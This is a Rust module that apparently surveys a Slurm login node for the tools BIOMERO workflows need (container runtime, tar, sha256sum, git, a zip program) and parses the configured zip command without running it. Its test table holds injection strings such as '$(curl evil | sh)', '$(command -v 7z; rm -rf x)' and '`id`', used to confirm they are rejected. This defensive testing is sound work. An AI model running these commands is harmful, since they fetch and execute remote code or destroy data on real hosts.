//! The programs that workflows need on the login node: a container runtime, and what packs, checks and clones.

use biomero_config::slurm_config::BiomeroSettings;

use crate::setup::DEFAULT_ZIP;
use crate::setup::end_of;
use crate::setup::facts::Facts;
use crate::setup::finding::Finding;

/// What is looked for, whatever is configured.
const ASKED: [&str; 13] = [
    "sbatch",
    "squeue",
    "sacct",
    "scancel",
    "tar",
    "sha256sum",
    "7z",
    "7za",
    "unzip",
    "zip",
    "git",
    "setsid",
    "find",
];

/// What the worker cannot do without, and what for.
const NEEDED: [(&str, &str); 4] = [
    ("tar", "data is sent as one stream"),
    ("sha256sum", "images and data are checked"),
    ("find", "images are counted"),
    ("setsid", "images are pulled behind the login session"),
];

/// The program that packs, as `slurm_zip_cmd` names it.
#[derive(Debug, Clone, PartialEq, Eq)]
enum Zip {
    /// One of these, whichever is there.
    OneOf(Vec<String>),
    /// Lines for a shell, which nobody here runs.
    Expression,
}

/// What names of programs a survey asks for. Names only: what is asked goes to a shell as words.
pub(super) fn asked(settings: &BiomeroSettings) -> Vec<&str> {
    let mut asked = ASKED.to_vec();
    if let Some(name) = settings.slurm.zip_cmd.split_whitespace().next().filter(|name| is_plain(name)) {
        asked.push(name);
    }
    asked
}

fn is_plain(name: &str) -> bool {
    !name.is_empty() && name.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"._+-/".contains(&byte))
}

fn zip(configured: &str) -> Zip {
    let text = configured.trim();
    if text.is_empty() {
        return Zip::OneOf(DEFAULT_ZIP.map(str::to_owned).to_vec());
    }
    if let Some(inner) = text.strip_prefix("$(").and_then(|rest| rest.strip_suffix(')')) {
        let names: Option<Vec<String>> = inner
            .split("||")
            .map(|part| part.trim().strip_prefix("command -v ").map(str::trim).filter(|name| is_plain(name)))
            .map(|name| name.map(str::to_owned))
            .collect();
        return names.map_or(Zip::Expression, Zip::OneOf);
    }
    match text.split_whitespace().next() {
        Some(name) if is_plain(name) => Zip::OneOf(vec![name.to_owned()]),
        _ => Zip::Expression,
    }
}

pub(super) fn findings(settings: &BiomeroSettings, facts: &Facts) -> Vec<Finding> {
    let mut findings = vec![of_runtime(facts)];
    let missing: Vec<String> = NEEDED
        .into_iter()
        .filter(|(name, _)| facts.program(name).is_none())
        .map(|(name, what_for)| format!("{name} ({what_for})"))
        .collect();
    findings.push(if missing.is_empty() {
        Finding::ok("programs", NEEDED.map(|(name, _)| name).join(", "))
    } else {
        Finding::failed(
            "programs",
            format!("not on the PATH: {}", missing.join(", ")),
            "ask the administrators for GNU tar, coreutils, findutils and util-linux",
        )
    });
    findings.push(of_zip(settings, facts));
    if let Some(repository) = &settings.slurm.script_repo {
        findings.push(match facts.program("git") {
            Some(path) => Finding::ok("git", path),
            None => Finding::failed(
                "git",
                format!("not on the PATH, and job scripts come from {repository}"),
                "have git installed there, or leave slurm_script_repo empty: job scripts are generated then",
            ),
        });
    }
    findings
}

fn of_runtime(facts: &Facts) -> Finding {
    const STEP: &str = "container runtime";
    let Some(path) = facts.get("runtime") else {
        return Finding::failed(
            STEP,
            "neither apptainer nor singularity is on the PATH, and no module of these names brings one",
            "module avail apptainer; then `module load` it in ~/.bashrc on the cluster, or have apptainer installed",
        );
    };
    let version = facts.get("runtime version").unwrap_or("of an unknown version");
    let module = facts.get("runtime module");
    let by = module.map(|module| format!(" by `module load {module}`")).unwrap_or_default();
    Finding::ok(STEP, format!("{path}{by}, {}", end_of(version.lines().next().unwrap_or_default(), 100)))
}

fn of_zip(settings: &BiomeroSettings, facts: &Facts) -> Finding {
    const STEP: &str = "zip tool";
    match zip(&settings.slurm.zip_cmd) {
        Zip::Expression => Finding::warning(
            STEP,
            format!(
                "slurm_zip_cmd is an expression for a shell: {:?}; nobody runs it to look",
                settings.slurm.zip_cmd
            ),
            "in [SLURM] of slurm-config.ini name the program: slurm_zip_cmd = 7z",
        ),
        Zip::OneOf(names) => match names.iter().find_map(|name| facts.program(name)) {
            Some(path) => Finding::ok(STEP, path),
            // Our own transfers take tar; Python's and some job scripts want it.
            None => Finding::warning(
                STEP,
                format!("none of {} is there: Python's BIOMERO cannot pack results", names.join(", ")),
                "have p7zip installed there, or name another one: slurm_zip_cmd = zip",
            ),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_zip_tool_is_read_without_running_it() {
        let table = [
            ("$(command -v 7z || command -v 7za)", Zip::OneOf(vec!["7z".into(), "7za".into()])),
            ("", Zip::OneOf(vec!["7z".into(), "7za".into()])),
            ("/opt/7zz -mmt=4", Zip::OneOf(vec!["/opt/7zz".into()])),
            ("$(curl evil | sh)", Zip::Expression),
            ("$(command -v 7z; rm -rf x)", Zip::Expression),
            ("`id`", Zip::Expression),
        ];
        for (text, expected) in table {
            assert_eq!(zip(text), expected, "{text}");
        }
    }
}
